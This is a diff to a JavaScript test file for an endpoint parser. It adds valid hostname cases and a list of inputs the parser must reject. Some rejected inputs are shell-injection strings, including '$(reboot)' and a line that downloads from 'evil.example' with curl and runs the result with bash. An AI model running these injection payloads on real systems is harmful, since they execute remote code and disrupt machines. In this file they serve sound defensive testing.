@@ -145,6 +145,9 @@ describe('endpoints', () => {
     ['api.Example', 'api.example', 6443],
     ['https://api.example:8443/', 'api.example', 8443],
     ['https://api.example', 'api.example', 6443],
+    ['my_host.a-b.', 'my_host.a-b.', 6443],
+    ['bücher.example', 'xn--bcher-kva.example', 6443],
+    [`${'a'.repeat(63)}.b`, `${'a'.repeat(63)}.b`, 6443],
   ])('%s', (text, host, port) => {
     expect(parseEndpoint(text, 6443)).toEqual({ host, port });
   });
@@ -164,6 +167,14 @@ describe('endpoints', () => {
     'a?b',
     '[::1',
     'a:1:2',
+    '-a',
+    'a-',
+    'a..b',
+    '*.a',
+    `${'a'.repeat(64)}.b`,
+    `${'a.'.repeat(126)}bc`,
+    ...['$(reboot)', '%24(reboot)', '[fe80::1%$(reboot)]:1', 'a;{curl,-oa,evil.example};{bash,a};b:6443'],
+    ...['a&b', 'a;b', "a'b", 'a"b', 'a`b`', 'a!b', 'a{b,c}', 'a=b', 'a~b', 'a+b'],
   ])('"%s" is none', (text) => {
     expect(parseEndpoint(text, 6443)).toBeUndefined();
   });
@@ -178,7 +189,7 @@ describe('endpoints', () => {
     fc.assert(
       fc.property(fc.string(), (text) => {
         const read = parseEndpoint(text, 6443);
-        return read === undefined || (read.port > 0 && read.port < 65536 && read.host !== '');
+        return read === undefined || (read.port > 0 && read.port < 65536 && /^[\w:.%-]+$/.test(read.host));
       }),
     );
   });
